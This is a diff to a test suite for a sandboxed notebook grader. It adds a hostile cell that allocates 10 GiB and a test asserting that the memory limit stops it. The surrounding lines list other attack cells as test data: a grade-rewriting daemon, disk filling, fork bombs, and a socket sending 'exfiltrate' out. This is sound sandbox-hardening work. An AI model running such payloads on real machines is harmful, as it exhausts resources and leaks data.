@@ -10,7 +10,7 @@ notebooks whose cells attack the grader (issue 10, section 5):
 * ex01 t2: starts a detached `setsid` daemon that keeps rewriting grades.csv;
 * ex01 t3: writes 10 GB;
 * ex01 t4: forks until it cannot;
-* ex02 t1: a shell fork bomb; t2: opens a connection to the internet.
+* ex02 t1: a shell fork bomb; t2: opens a connection to the internet; t3: asks for 10 GB of memory.
 
 Every attack must fail to change any grade but Mallory's own, and her details must say why.
 The whole module runs `make grade` once (about a minute on two busy cores).
@@ -165,6 +165,7 @@ ATTACK_EX02 = {
         "socket.create_connection(('1.1.1.1', 53), timeout=5).sendall(b'exfiltrate')\n"
         "answer_rfm_codes = {}\n"
     ),
+    "t3-solution": "hog = bytearray(10 * 2**30)  # 10 GiB of memory\nanswer_rfm_segments = {}\n",
 }
 
 
@@ -335,6 +336,11 @@ def test_a_fork_bomb_is_capped_and_costs_only_its_author(attacked):
 def test_there_is_no_network_inside(attacked):
     text = reason(attacked, "answer_rfm_codes")
     assert "its cell 7 raised" in text and "Network is unreachable (sandbox: no network)" in text, text
+
+
+def test_memory_stops_at_the_limit(attacked):
+    text = reason(attacked, "answer_rfm_segments")
+    assert "its cell 9 raised MemoryError" in text and "(sandbox: memory limit, 4096 MB)" in text, text
 
 
 def test_grading_refuses_without_bwrap_and_says_how_to_install_it(tmp_path):
